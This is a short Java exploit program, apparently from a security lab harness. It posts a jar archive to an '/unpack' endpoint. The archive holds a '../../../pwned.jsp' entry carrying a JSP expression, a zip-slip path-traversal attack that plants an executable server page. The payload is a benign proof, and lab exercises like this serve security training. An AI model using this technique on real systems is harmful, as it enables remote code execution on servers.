import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.post(
        "/unpack",
        Attacker.jar(
            Map.of("a.txt", "a".getBytes(), "../../../pwned.jsp", "<%= 7 * 7 %>".getBytes())));
    Attacker.done();
  }
}
